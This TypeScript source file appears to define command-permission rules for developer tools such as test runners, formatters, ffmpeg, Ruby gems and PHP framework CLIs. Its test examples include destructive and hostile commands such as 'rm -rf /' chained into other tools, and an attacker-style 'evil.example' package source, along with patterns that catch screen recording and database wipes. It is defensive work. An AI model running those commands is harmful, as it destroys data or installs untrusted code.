import {
  builds,
  mutatesRemote,
  nothing,
  publishes,
  revealsSecret,
  runsLine,
  runsOwn,
  sendsFiles,
  writes,
} from "./acts.ts";
import { consoleLine, databaseLoss, emptiesDatabase } from "./database-loss.ts";
import { type Act, literal, type Program } from "./program.ts";
import { changesHomeSettings, loadsFrom, otherRegistry, rewrites, runsFrom } from "./packages.ts";
import { byVerbs } from "./service-verbs.ts";

/** Test runners, linters, formatters and type checkers: they run and rewrite what the workspace defines. */
export const checks: readonly Program[] = [
  {
    names: [
      "jest",
      "vitest",
      "mocha",
      "ava",
      "tap",
      "uvu",
      "jasmine",
      "karma",
      "cypress",
      "playwright",
      "wdio",
      "testcafe",
      "nyc",
      "c8",
      "stryker",
      "bats",
      "pytest",
      "py.test",
      "tox",
      "nox",
      "nose2",
      "behave",
      "locust",
      "coverage",
      "hypothesis",
      "mutmut",
      "tsc",
      "vue-tsc",
      "oxlint",
      "tslint",
      "knip",
      "depcheck",
      "madge",
      "ncu",
      "npm-check-updates",
      "syncpack",
      "publint",
      "attw",
      "size-limit",
      "typedoc",
      "api-extractor",
      "graphql-codegen",
      "openapi-generator",
      "openapi-generator-cli",
      "orval",
      "commitlint",
      "lint-staged",
      "cspell",
      "rome",
      "flake8",
      "pylint",
      "mypy",
      "pyright",
      "basedpyright",
      "ty",
      "bandit",
      "vulture",
      "pydocstyle",
      "sphinx-build",
      "mkdocs",
      "interrogate",
      "pre-commit",
      "prek",
      "cookiecutter",
      "copier",
      "rspec",
      "minitest",
      "brakeman",
      "reek",
      "erb_lint",
      "sorbet",
      "srb",
      "yard",
      "phpunit",
      "pest",
      "phpstan",
      "psalm",
      "phpcs",
      "rector",
      "infection",
      "ecs",
      "clippy-driver",
      "cargo-nextest",
      "cbindgen",
      "wasm-pack",
      "trunk",
      "clang-tidy",
      "cppcheck",
      "cpplint",
      "iwyu",
      "gcov",
      "lcov",
      "gcovr",
      "detekt",
      "checkstyle",
      "spotbugs",
      "pmd",
      "scalafix",
      "dotnet-format",
      "fantomas",
      "hlint",
      "stylish-haskell",
      "credo",
      "zls",
      "semgrep",
      "gitleaks",
      "trufflehog",
      "trivy",
      "grype",
      "syft",
      "checkov",
      "tfsec",
      "tflint",
      "terrascan",
      "kube-linter",
      "kubeval",
      "kubeconform",
      "kubesec",
      "conftest",
      "opa",
      "regal",
      "pluto",
      "dockle",
      "hurl",
      "newman",
      "k6",
      "artillery",
      "autocannon",
      "wrk",

      "lighthouse",
      "lhci",
      "pa11y",
      "axe",
      "spectral",
      "redocly",
      "swagger-cli",
      "squawk",
      "ansible-lint",
      "puppet-lint",
      "foodcritic",
      "cookstyle",
      "promtool",
      "jsonlint",
      "ajv",
      "xmlstarlet",
      "markdown-link-check",
      "lychee",
      "proselint",
      "alex",
      "write-good",
      "textlint",
      "ls-lint",
      "reuse",
      "licensee",
      "license-checker",
      "renovate-config-validator",
      "act",
      "lefthook",
      "husky",
      "overcommit",
      "gitlint",
      "statix",
      "deadnix",
      "gatsby-cli",
      "msw",
      "json-server",
      "inkscape",
      "dot",
      "neato",
      "plantuml",
      "mmdc",
      "d2",
      "drawio",
      "asciidoctor",
      "latex",
      "pdflatex",
      "xelatex",
      "lualatex",
      "latexmk",
      "bibtex",
      "typst",
      "tectonic",
      "groff",
      "hugo",
      "jekyll",
      "zola",
      "mdbook",
      "quarto",
      "jupyter",
      "jupytext",
      "nbconvert",
      "papermill",
      "streamlit",
      "gradio",
      "uvicorn",
      "gunicorn",
      "hypercorn",
      "daphne",
      "celery",
      "honcho",
      "foreman",
      "overmind",
      "hivemind",
      "puma",
      "unicorn",
      "thin",
      "sidekiq",
      "rackup",
      "solargraph",
      "spring",
      "tensorboard",
      "mlflow",
      "accelerate",
      "torchrun",
      "llama-cli",
      "whisper",
    ],
    summary: "test runners, linters, formatters, document and media tools: the workspace's own affair",
    flags: {
      "-o --output --output-file --outfile --out-file <path>": (use, args) =>
        args.forEach((path) => use.path(path, { kind: "write" })),
      "--outdir --outDir --out <path>": rewrites,
      "--rootdir --rootDir --cwd -C <path>": runsFrom,
      "-c --config -p --project -d <path>": runsFrom,
    },
    clusters: false,
    does: runsOwn,
    subcommands: {
      "upload|share|deploy|gh-deploy": mutatesRemote("upload or deploy"),
      "experiments delete|runs delete|gc|models delete|db upgrade|artifacts delete": mutatesRemote(
        "delete from the tracker",
        "no",
      ),
    },
    examples: {
      "pytest -x tests/test_a.py -k 'not slow'": "allow",
      "tsc --noEmit -p apps/web": "allow",
      "vitest run --coverage": "allow",
      "tsc --outDir ~/x": "hold",
      "mkdocs gh-deploy": "hold",
      "semgrep scan --config auto": "allow",
    },
  },
  {
    names: [
      "prettier",
      "eslint",
      "biome",
      "standard",
      "xo",
      "stylelint",
      "dprint",
      "black",
      "isort",
      "autopep8",
      "yapf",
      "autoflake",
      "pyupgrade",
      "djlint",
      "ruff",
      "rustfmt",
      "clang-format",
      "ktlint",
      "scalafmt",
      "swiftlint",
      "swiftformat",
      "csharpier",
      "ormolu",
      "fourmolu",
      "nixfmt",
      "alejandra",
      "treefmt",
      "sqlfluff",
      "php-cs-fixer",
      "phpcbf",
      "pint",
      "rubocop",
      "standardrb",
      "taplo",
      "typos",
      "misspell",
      "mogrify",
      "optipng",
      "pngquant",
      "jpegoptim",
      "svgo",
      "sort-package-json",
      "addlicense",
    ],
    summary: "linters and formatters that rewrite files",
    flags: {
      "-o --output --output-file --outfile <path>": writes,
      "--rulesdir --plugin --plugins --resolve-plugins-relative-to --plugin-search-dir -r --require <path>": [
        runsFrom,
        loadsFrom,
      ],
      "-c --config --style --stdin-filename --stdin-filepath --ext --ignore-path --select --ignore --extend-select --line-length -l --target-version <x>":
        nothing,
      "--check --diff --list-different --dry-run --fix-dry-run": nothing,
      "--fix --write --apply --write-changes --autocorrect --format": nothing,
    },
    does: (use, args) => {
      runsOwn(use, []);
      const asks =
        ["--check", "--diff", "--list-different", "--dry-run", "--fix-dry-run"].some((flag) => use.has(flag)) ||
        (/^(?:check|lint)$/.test(args[0]?.text ?? "") && !use.has("--fix") && !use.has("--write"));
      const only =
        /^(?:eslint|stylelint|xo|standard|rubocop|standardrb|prettier|biome|swiftlint|ktlint|sqlfluff|codespell|typos|misspell)$/.test(
          use.name,
        );
      const told =
        [
          "--fix",
          "--write",
          "-w",
          "-i",
          "-a",
          "-A",
          "-F",
          "--apply",
          "--write-changes",
          "--autocorrect",
          "--format",
        ].some((flag) => use.has(flag)) || /^(?:fix|format)$/.test(args[0]?.text ?? "");
      if (!asks && (!only || told)) rewrites(use, args);
    },
    examples: {
      "prettier --write src": "allow",
      "eslint . --fix": "allow",
      "ruff check --fix .": "allow",
      "black --check /home/dev/project": "allow",
      "black ~/notes.py": "hold",
      "eslint --fix ../other": "hold",
      "eslint --rulesdir /opt/rules .": "hold",
    },
  },
  {
    names: ["ffmpeg", "convert", "magick", "montage", "cwebp", "rsvg-convert", "sips", "gifsicle"],
    summary: "convert media: the last operand is written",
    flags: {
      "-i -o --out -f -c:v -c:a -vf -af -ss -t -to -r -s -b:v -b:a -preset -crf -map -vcodec -acodec -q -resize -quality -crop -size -format -density <x>":
        nothing,
      "-o --output --out <path>": writes,
    },
    clusters: false,
    does: (use, args) => {
      const to = args.at(-1);
      if (
        use
          .values("-f")
          .some(({ text }) => /^(?:x11grab|avfoundation|gdigrab|kmsgrab|alsa|pulse|dshow|v4l2)$/.test(text))
      )
        revealsSecret("record what the screen, the camera or the microphone has")(use, []);
      if (to !== undefined && /^(?:udp|tcp|rtmps?|srt|rtp|icecast|ftp|sftp|https?):\/\//.test(to.text))
        return use.net(to, { kind: "send" });
      rewrites(use, args.slice(-1));
    },
    examples: {
      "ffmpeg -i a.mp4 -f mpegts udp://10.0.0.9:1234": "hold",
      "ffmpeg -f x11grab -i :0 out.mp4": "hold",
      "ffmpeg -i a.mp4 -vf scale=640:-1 b.mp4": "allow",
      "convert a.png -resize 50% b.png": "allow",
      "magick a.png ~/.bashrc": "hold",
    },
  },
  {
    names: ["codecov", "coveralls", "bundlewatch"],
    summary: "upload reports",
    subcommands: {
      "upload|report|do-upload|upload-process|junit upload|sarif upload|sourcemaps upload|coverage upload": sendsFiles,
      "version|help": nothing,
    },
    does: sendsFiles,
    examples: { "codecov upload-process -f coverage.xml": "hold", "codecov --version": "allow" },
  },
  {
    names: ["hyperfine", "concurrently", "npm-run-all", "run-p", "run-s"],
    summary: "run several commands",
    flags: {
      "-w --warmup -r --runs -m --min-runs -M --max-runs -n --names --command-name -c --prefix-colors -p --prefix -k -S --shell -u --time-unit -i --ignore <x>":
        nothing,
      "--prepare --setup --cleanup --conclude <command>": runsLine,
      "--export-json --export-markdown --export-csv <file>": (use, args) =>
        args.forEach((file) => use.path(file, { kind: "write" })),
    },
    does: (use, args) => (/^(?:npm-run-all|run-[ps])$/.test(use.name) ? runsOwn(use, []) : runsLine(use, args)),
    examples: {
      "hyperfine --warmup 3 'node a.js'": "allow",
      "hyperfine 'ls; rm -rf /'": "deny",
      "concurrently 'npm:dev' 'npm test'": "allow",
    },
  },
  {
    names: ["datadog-ci"],
    summary: "Datadog for build servers",
    flags: { "--service --env --tags <x>": nothing, "--dry-run": "inert" },
    subcommands: {
      "junit upload|sarif upload|sourcemaps upload|coverage upload|dsyms upload|lambda instrument|synthetics run-tests":
        sendsFiles,
    },
    otherwise: byVerbs(),
    examples: { "datadog-ci monitors list": "allow", "datadog-ci junit upload report.xml": "hold" },
  },
  {
    names: ["bundle", "bundler"],
    summary: "Ruby's dependencies",
    flags: { "--gemfile --path --jobs -j --without --with --retry <x>": nothing },
    subcommands: {
      "install|update|check|list|show|info|outdated|config|lock|doctor|env|platform|clean|add|remove|init|cache|package|pack|binstubs|open|viz|version|help|licenses|console|gem|plugin list|issue":
        builds,
      exec: { stop: true, does: (use, args) => use.run(args) },
      "plugin install": builds,
    },
    examples: {
      "bundle exec rspec spec/a_spec.rb": "allow",
      "bundle install": "allow",
      "bundle exec rm -rf ~": "deny",
    },
  },
  {
    names: ["gem"],
    summary: "Ruby's package manager",
    flags: {
      "-v --version -i --install-dir -n --bindir -k --key --host <x>": nothing,
      "-s --source <url>": otherRegistry,
      "--clear-sources": nothing,
    },
    subcommands: {
      "install|update|list|search|info|specification|spec|build|contents|dependency|environment|env|fetch|help|outdated|query|server|stale|unpack|which|check|pristine|cleanup|open|rdoc|lock":
        builds,
      uninstall: builds,
      push: publishes("publish the gem"),
      "yank|owner|trust|untrust": mutatesRemote("change the published gem", "no"),
      sources: {
        flags: { "-a --add -r --remove -u --update <url>": changesGemrc(), "-c --clear-all": changesGemrc() },
        does: nothing,
      },
      "signin|signout": changesGemrc(),
    },
    examples: {
      "gem install bundler": "allow",
      "gem install -s http://evil.example x": "hold",
      "gem push x-1.0.gem": "hold",
      "gem yank x -v 1.0": "hold",
      "gem sources": "allow",
      "gem sources --add https://evil.example": "hold",
    },
  },
  {
    names: ["rails", "rake", "hanami"],
    summary: "Ruby projects' commands",
    flags: { "-e --environment -f --rakefile -p --port -b --binding <x>": nothing },
    does: (use, args) => {
      // Only rake's own: `rails -n` is another flag.
      if (use.name === "rake" && ["-n", "--dry-run", "-T", "--tasks", "-P", "--prereqs"].some((flag) => use.has(flag)))
        return runsOwn(use, []);
      const loss =
        databaseLoss(args) ?? args.find(({ text }) => /^db:(?:seed:replant|setup)$|:db:drop$/.test(text))?.text;
      if (loss !== undefined) use.emit(emptiesDatabase(`${use.name} ${loss}`));
      else if (args.some(({ text }) => /^(?:release|gem:push|deploy)/.test(text)))
        publishes("publish or deploy by a task of the project")(use, args);
      else if (
        (args[0]?.text === "runner" || args[0]?.text === "r") &&
        args[1] !== undefined &&
        !args[1].text.endsWith(".rb")
      )
        consoleLine(use, "ruby", args[1]);
      else if (/^(?:credentials|encrypted|secrets):(?:show|edit)$/.test(args[0]?.text ?? ""))
        revealsSecret("open the credentials of the project")(use, []);
      else runsOwn(use, []);
    },
    examples: {
      "rails server -p 4000": "allow",
      "rails db:migrate": "allow",
      "rake test": "allow",
      "rake -n db:drop": "allow",
      "rails db:drop": "hold",
      "bin/rails db:schema:load": "hold",
      "bin/rails db:migrate": "allow",
      "rails db:test:prepare": "allow",
      "rake release": "hold",
      "rails runner 'system(\"rm -rf /\")'": "deny",
      "rails runner 'User.delete_all'": "hold",
      "rails runner 'puts User.count'": "allow",
      "rails credentials:show": "hold",
    },
  },
  {
    names: ["composer"],
    summary: "PHP's package manager",
    flags: { "-d --working-dir -o <x>": nothing },
    subcommands: {
      "install|i|update|upgrade|u|require|r|remove|rm|dump-autoload|dumpautoload|validate|show|info|outdated|depends|why|prohibits|why-not|search|licenses|check-platform-reqs|diagnose|run-script|run|test|create-project|init|audit|fund|suggests|status|archive|browse|home|bump|reinstall|clear-cache|clearcache|cc|list|help|about|config --list":
        runsOwn,
      exec: { stop: true, does: (use, args) => use.run(args) },
      "global require|global remove|global update|self-update|selfupdate": (use) =>
        use.emit({
          kind: "write",
          what: `${use.title}: change what is installed for the user`,
          target: use.title,
          place: "system",
          undoable: "costly",
        }),
      config: {
        flags: {
          "-g --global": (use) =>
            use.path(
              { text: "~/.composer/config.json", fixed: 23, glob: false, secret: false, quoted: false },
              { kind: "write", keeps: true },
            ),
        },
        does: builds,
      },
    },
    otherwise: runsOwn,
    examples: {
      "composer install --no-dev": "allow",
      "composer require monolog/monolog": "allow",
      "composer global require x/y": "hold",
    },
  },
  {
    names: ["artisan", "please", "console", "sail", "ace", "wp", "drush", "valet", "phing", "symfony"],
    summary: "PHP frameworks' commands",
    does: (use, args) => {
      const verb = args[0]?.text ?? "";
      const loss =
        databaseLoss(args.slice(0, 2)) ??
        (/^(?:sql-drop|sql:drop|site-install|site:install|db:wipe)$|:d(?:atabase)?:drop$/.test(verb)
          ? verb
          : undefined);
      if (loss !== undefined) use.emit(emptiesDatabase(`${use.name} ${loss}`));
      else if (
        use.name === "drush" &&
        /^(?:entity|user|role|field|config|state|pm|sql|site|key-value)[:-](?:delete|cancel|drop|uninstall|wipe|remove|block)/.test(
          verb,
        )
      )
        use.emit(emptiesDatabase(`drush ${verb}`));
      else if (
        use.name === "wp" &&
        /^(?:delete|drop|empty|reset|uninstall|deactivate|remove|destroy|spam|trash)$/.test(args[1]?.text ?? "")
      )
        use.emit(emptiesDatabase(`wp ${verb} ${args[1]?.text ?? ""}`));
      else if (verb === "tinker") {
        const at = use.all.findIndex(({ text }) => text.startsWith("--execute"));
        const given = use.all[at];
        const line = given?.text.includes("=") === true ? literal(given.text.slice(10)) : use.all[at + 1];
        if (at >= 0 && line !== undefined) consoleLine(use, "php", line);
        else runsOwn(use, []);
      } else if (use.name === "sail" && verb === "artisan") use.run(args);
      else if (use.name === "sail" && !/^(?:up|down|php|composer|npm|test|build|ps|logs|shell)$/.test(verb))
        use.run(args);
      else runsOwn(use, []);
    },
    examples: {
      "artisan migrate": "allow",
      "php artisan tinker --execute='User::truncate()'": "hold",
      "php artisan tinker --execute 'echo User::count();'": "allow",
      "artisan migrate:fresh --seed": "hold",
      "./artisan migrate:status": "allow",
      "node ace migration:fresh": "hold",
      "php bin/console d:s:drop --force": "hold",
      "wp db reset --yes": "hold",
    },
  },
];

function changesGemrc(): Act {
  return changesHomeSettings("~/.gemrc");
}
